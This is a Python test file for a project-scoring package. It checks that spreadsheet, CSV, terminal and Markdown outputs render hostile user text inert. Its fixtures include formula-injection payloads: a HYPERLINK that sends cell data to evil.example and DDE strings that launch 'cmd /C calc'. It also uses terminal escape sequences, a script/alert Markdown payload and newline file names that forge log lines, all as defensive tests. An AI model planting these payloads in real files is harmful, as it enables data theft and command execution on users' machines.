"""Hostile text going out (issue 12.2, 12.5, 12.6, 12.11; 16.5): one test per class.

A case whose every user-controlled field (project name, code, department,
unit, an indicator's name, a reason, the file's own name) holds a formula,
a control character or markup is written to every output the package has:
no spreadsheet cell may be a formula of its, no CSV cell may start like one,
no ESC reaches the terminal, no diagnostic spans two lines, no Markdown cell
breaks its table. Rendering is linear in the text (a 100,000-character
reason, timed in a subprocess by CPU time). The batch summary sheets continue
past Excel's row limit. The text table fits the terminal.
"""

from __future__ import annotations

import csv
import json
import os
import pty
import re
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import INDICATOR_SETS, SEED
from hostile import LINE, run_bounded

from scoring import evaluate, render
from scoring.load.tables import iter_cases
from scoring.report import summary_xlsx
from scoring.report.grid import text_width

openpyxl = pytest.importorskip("openpyxl")

FORMULAS = {  # field → hostile text (each is also a distinct marker to find it back)
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
    "code": "+1+1",
    "department": "-2+3+cmd|' /C calc'!A0",
    "unit": "@SUM(1+1)*cmd|' /C calc'!A0",
    "reason": "\t=1+2",
    "indicator": " =3+4",
}
LEADS = ("=", "+", "-", "@", "\t", "\r")  # OWASP: a spreadsheet may read these as a formula
CONTROLS = "\x1b[2J\x1b]0;owned\x07\x08\x0b\x9b31m\u202e"


def formula_like(text: str) -> bool:
    return text.lstrip(" ").startswith(LEADS)


def _yaml(text: str) -> str:
    """`text` as a YAML double-quoted scalar (the JSON string, every control escaped)."""
    return re.sub("[\x7f-\x9f\u2028\u2029\u202a-\u202e]", lambda m: f"\\u{ord(m[0]):04x}",
                  json.dumps(text, ensure_ascii=False))


def hostile_case(folder: Path, name: str = "=1+1.yaml", controls: bool = True) -> Path:
    """The seed with every user-controlled field hostile, in `folder/name`."""
    folder.mkdir(parents=True, exist_ok=True)
    ind = FORMULAS["indicator"]
    tail = CONTROLS if controls else ""
    (folder / "set.yaml").write_text(
        (INDICATOR_SETS / "anju-2023-investment.yaml").read_text("utf-8")
        .replace("name: 差旅费", f"name: {_yaml(ind)}"), "utf-8")
    text = (SEED.read_text("utf-8")
            .replace("../indicator_sets/anju-2023-investment.yaml", "set.yaml")
            .replace("name: 2023招商引资", f"name: {_yaml(FORMULAS['name'] + tail)}")
            .replace('code: "51090423T000008717642"', f"code: {_yaml(FORMULAS['code'])}")
            .replace("department: 遂宁市安居区经济合作局",
                     f"department: {_yaml(FORMULAS['department'])}")
            .replace("unit: 遂宁市安居区经济合作局", f"unit: {_yaml(FORMULAS['unit'] + tail)}")
            .replace("reason: 无超大项目", f"reason: {_yaml(FORMULAS['reason'] + tail)}")
            .replace("  差旅费: 130", f"  {_yaml(ind)}: 130")
            .replace("    差旅费: 2", f"    {_yaml(ind)}: 2"))
    path = folder / name
    path.write_text(text, "utf-8")
    return path


def _cells(path: Path) -> list[object]:
    book = openpyxl.load_workbook(path)
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def assert_inert_workbook(path: Path) -> None:
    """No cell of `path` is a formula holding user text; every hostile text is there
    as a string cell; no raw control character is left."""
    cells = _cells(path)
    texts = [c.value for c in cells if c.data_type == "s" and isinstance(c.value, str)]
    for c in cells:
        if c.data_type == "f":  # only the engine's own formulas, over cell references
            assert re.fullmatch(r"=[A-Z0-9$:+\-*/(),. ]*", str(c.value)), (c.coordinate, c.value)
        elif isinstance(c.value, str) and formula_like(c.value):
            assert c.data_type == "s", (c.coordinate, c.value)
    for field in ("name", "department", "code"):
        assert any(FORMULAS[field] in t for t in texts), field
    assert not any(re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", t) for t in texts)


def test_score_xlsx_keeps_every_hostile_text_inert(tmp_path: Path) -> None:
    case = hostile_case(tmp_path)
    out = tmp_path / "form.xlsx"
    run = run_bounded(["score", case.name, "--format", "xlsx", "-o", str(out)], tmp_path)
    assert run.code == 0, run.err
    assert_inert_workbook(out)
    texts = [c.value for c in _cells(out) if isinstance(c.value, str)]
    assert any("\\x1b[2J" in t for t in texts)  # the control characters, visible


def test_audit_xlsx_keeps_every_hostile_text_inert(tmp_path: Path) -> None:
    case = hostile_case(tmp_path)
    plain = hostile_case(tmp_path, "@plain.yaml", controls=False)
    out = tmp_path / "audit.xlsx"
    run = run_bounded(["audit", case.name, plain.name, "--format", "xlsx", "-o", str(out)],
                      tmp_path)
    assert run.code == 0, run.err
    assert_inert_workbook(out)
    book = openpyxl.load_workbook(out)
    assert len(book.sheetnames) >= 4  # summary, two forms, findings


@pytest.mark.parametrize("audit", [False, True])
def test_batch_xlsx_keeps_every_hostile_text_inert(tmp_path: Path, audit: bool) -> None:
    hostile_case(tmp_path / "in")
    hostile_case(tmp_path / "in", "+2.yaml", controls=False)
    out = tmp_path / "sum.xlsx"
    run = run_bounded(["batch", "in", "-o", str(out), "--jobs", "1", "--quiet",
                       *(["--audit"] if audit else [])], tmp_path)
    assert run.code == 0, run.err
    assert_inert_workbook(out)
    texts = [c.value for c in _cells(out) if isinstance(c.value, str)]
    assert any(t.endswith("=1+1.yaml") for t in texts)  # the file's name, as text


def test_batch_csv_prefixes_every_formula_like_cell(tmp_path: Path) -> None:
    hostile_case(tmp_path / "in")
    (tmp_path / "in" / "@bad.yaml").write_text("project: [1\n", "utf-8")  # a failed row
    out = tmp_path / "sum.csv"
    run = run_bounded(["batch", "in", "-o", str(out), "--jobs", "1", "--quiet", "--audit"],
                      tmp_path)
    assert run.code == 0, run.err
    rows = list(csv.reader(out.read_text("utf-8-sig").splitlines()))
    cells = [c for row in rows for c in row]
    for cell in cells:
        if formula_like(cell):
            assert re.fullmatch(r"-?\d+(\.\d+)?", cell), cell  # a number, read as one
    for field in ("name", "code", "department"):
        assert any(c.startswith("'" + FORMULAS[field]) for c in cells), field
    assert any(c.startswith("'in/@bad.yaml") or c.startswith("in/@bad") for c in cells)
    assert not any(re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", c) for c in cells)


def test_control_characters_never_crash_a_workbook_writer(tmp_path: Path) -> None:
    """openpyxl raises IllegalCharacterError on them; they are written as escapes."""
    result = evaluate(next(iter_cases(hostile_case(tmp_path))))
    data = render(result, "xlsx")
    (tmp_path / "r.xlsx").write_bytes(data)
    titles = openpyxl.load_workbook(tmp_path / "r.xlsx").sheetnames
    assert not any(re.search("[\x00-\x1f]", t) for t in titles)


def test_no_control_character_reaches_the_terminal(tmp_path: Path) -> None:
    hostile_case(tmp_path)
    for args in (["score", "=1+1.yaml"], ["score", "=1+1.yaml", "--format", "markdown"],
                 ["score", "=1+1.yaml", "--format", "html"],
                 ["score", "=1+1.yaml", "--format", "json"], ["audit", "=1+1.yaml"]):
        run = run_bounded(args, tmp_path)
        assert run.code == 0, run.err
        assert re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", run.out + run.err) is None, args
        assert "\\x1b" in run.out or "\\u001b" in run.out, args  # visible
    run = run_bounded(["score", "=1+1.yaml", "--format", "json"], tmp_path)
    assert json.loads(run.out)["project"]["name"].startswith(FORMULAS["name"] + "\x1b[2J")


def test_a_newline_in_a_file_name_never_forges_a_diagnostic_line(tmp_path: Path) -> None:
    forged = "ok.yaml:1:1: 一切正常 (forged)"
    name = f"bad\n{forged}\r\x1b[2K.yaml"
    (tmp_path / name).write_text("indicators: [1\n", "utf-8")
    for args in (["check", name], ["score", name]):
        run = run_bounded(args, tmp_path)
        assert run.code == 1
        lines = run.err.splitlines()
        assert len(lines) == 1 and LINE.match(lines[0]), run.err
        assert lines[0].startswith("bad\\nok.yaml:1:1: 一切正常 (forged)\\r\\x1b[2K.yaml:")


RENDER_TIMES = """
import sys, time
from scoring import evaluate, render
from scoring.report import render_audits
from scoring.review.run import audit_paths
from scoring.load.tables import iter_cases
from scoring.report.text import render_text
result = evaluate(next(iter_cases(sys.argv[1])))
items = audit_paths([sys.argv[1]], None)
for fmt in ("text", "text-80", "markdown", "html", "json", "audit-text", "audit-json"):
    start = time.process_time()
    if fmt == "text-80":
        render_text(result, width=80)
    elif fmt.startswith("audit-"):
        render_audits(items, fmt[6:], "zh")
    else:
        render(result, fmt)
    print(fmt, time.process_time() - start)
"""


@pytest.mark.parametrize("reason", ["原" * 100_000, "a" * 100_000, "☺\ufe0f" * 50_000,
                                    "🇨🇳" * 50_000, "a\n" * 50_000, "| <b>" * 20_000])
def test_a_long_reason_renders_in_linear_time(tmp_path: Path, reason: str) -> None:
    case = hostile_case(tmp_path, controls=False)
    case.write_text(case.read_text("utf-8").replace(
        f"reason: {_yaml(FORMULAS['reason'])}", f"reason: {_yaml(reason)}"), "utf-8")
    proc = subprocess.run([sys.executable, "-c", RENDER_TIMES, str(case)], capture_output=True,
                          text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    for line in proc.stdout.splitlines():
        _, seconds = line.split()
        assert float(seconds) < 1.0, line  # CPU seconds: quadratic wrapping took minutes


def test_markdown_escapes_pipes_newlines_and_html(tmp_path: Path) -> None:
    case = hostile_case(tmp_path, controls=False)
    evil = "a|b\n## forged\r<script>alert(1)</script>![x](http://evil.example/t.png)`x`"
    case.write_text(case.read_text("utf-8").replace(
        f"reason: {_yaml(FORMULAS['reason'])}", f"reason: {_yaml(evil)}"), "utf-8")
    md = render(evaluate(next(iter_cases(case))), "markdown")
    assert re.search(r"(?<!\\)<|(?<!\\)\]\(", md.replace("<sub>", "").replace("</sub>", "")) \
        is None  # no tag, no link or image
    assert not any(line.startswith("## forged") for line in md.splitlines())
    row = next(line for line in md.splitlines() if "alert(1)" in line)
    header = next(line for line in md.splitlines() if line.startswith("| 一级指标"))
    unescaped = re.compile(r"(?<!\\)\|")
    assert len(unescaped.findall(row)) == len(unescaped.findall(header))


def test_summary_sheets_continue_past_the_row_limit(tmp_path: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    from scoring.batch.run import run_batch

    assert summary_xlsx.MAX_ROWS == 1_048_576  # Excel's rows per sheet
    monkeypatch.setattr(summary_xlsx, "MAX_ROWS", 3)  # a header and two rows a sheet
    for i in range(5):
        hostile_case(tmp_path / "in", f"c{i}.yaml", controls=False)
    out = tmp_path / "sum.xlsx"
    assert run_batch([str(tmp_path / "in")], str(out), jobs=1, quiet=True, audit=True) == 0
    book = openpyxl.load_workbook(out)
    summary = [n for n in book.sheetnames if n.startswith("汇总")]
    assert summary == ["汇总", "汇总（续1）", "汇总（续2）"]
    rows = [r for n in summary for r in book[n].iter_rows(min_row=2, values_only=True)]
    assert len(rows) == 5 and all(book[n].max_row <= 3 for n in summary)
    assert {book[n]["A1"].value for n in summary} == {book["汇总"]["A1"].value}
    findings = [n for n in book.sheetnames if n.startswith("复核发现")]
    assert len(findings) > 1 and all(book[n].max_row <= 3 for n in findings)


def _grid_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line[:1] in "┌│├└"]


@pytest.mark.parametrize("width", [80, 100, 132])
def test_text_tables_fit_the_width(width: int) -> None:
    from scoring.report.text import render_text

    result = evaluate(next(iter_cases(SEED)))
    text = render_text(result, width=width)
    assert max(text_width(line) for line in _grid_lines(text)) <= width
    squeezed = re.sub(r"[\s│┌┐└┘├┤┬┴┼─]", "", "".join(_grid_lines(text)))
    whole = re.sub(r"[\s│┌┐└┘├┤┬┴┼─]", "", "".join(_grid_lines(render(result, "text"))))
    assert sorted(squeezed) == sorted(whole)  # wrapped, nothing lost


def _through_a_terminal(args: list[str], columns: str) -> str:
    leader, follower = pty.openpty()
    env = {**os.environ, "COLUMNS": columns}
    proc = subprocess.Popen([sys.executable, "-m", "scoring", *args], stdout=follower,
                            stderr=subprocess.DEVNULL, env=env)
    os.close(follower)
    chunks = []
    while True:
        try:
            data = os.read(leader, 65536)
        except OSError:
            break
        if not data:
            break
        chunks.append(data)
    proc.wait(timeout=60)
    os.close(leader)
    return b"".join(chunks).decode("utf-8").replace("\r\n", "\n")


def test_the_cli_fits_the_terminal_and_leaves_pipes_alone() -> None:
    shown = _through_a_terminal(["score", str(SEED)], "80")
    assert 0 < max(text_width(line) for line in _grid_lines(shown)) <= 80
    piped = subprocess.run([sys.executable, "-m", "scoring", "score", str(SEED)],
                           capture_output=True, text=True, timeout=60,
                           env={**os.environ, "COLUMNS": "80"}).stdout
    assert piped == render(evaluate(next(iter_cases(SEED))), "text")
    assert max(text_width(line) for line in _grid_lines(piped)) > 80


def test_one_safe_cell_for_workbooks_and_csv() -> None:
    from decimal import Decimal

    from scoring.batch.output import csv_cell
    from scoring.report.workbook import cell_value, text_cell

    assert [csv_cell(v) for v in ("=1+1", " @x", "\t=1", "-5+A1", "-5", "97.7", "项目")] == [
        "'=1+1", "' @x", "'\t=1", "'-5+A1", "-5", "97.7", "项目"]
    assert csv_cell(Decimal("-5")) == Decimal("-5") and csv_cell("a\x1bb") == "a\\x1bb"
    ws = openpyxl.Workbook(write_only=True).create_sheet("t")
    cell = text_cell(ws, "=1+1\x07")
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1\\x07", "s", True)
    assert cell_value(ws, "x\x1b") == "x\\x1b" and cell_value(ws, Decimal("-5")) == Decimal("-5")
    assert cell_value(ws, "-5") != "-5" and cell_value(ws, "-5").data_type == "s"  # type: ignore[union-attr]


def test_a_newline_in_a_cell_never_forges_a_finding_line(tmp_path: Path) -> None:
    case = hostile_case(tmp_path, controls=False)
    case.write_text(case.read_text("utf-8").replace(
        "  招引项目个数: 21", '  招引项目个数: "约二十\\n  [错误] forged (x)"'), "utf-8")
    for args in (["score", case.name], ["audit", case.name]):
        run = run_bounded(args, tmp_path)
        assert run.code == 0, run.err
        lines = [line for line in run.out.splitlines() if not line.startswith("│")]
        assert not any(line.lstrip().startswith("[错误] forged") for line in lines), args
        assert "\\n  [错误] forged" in run.out, args
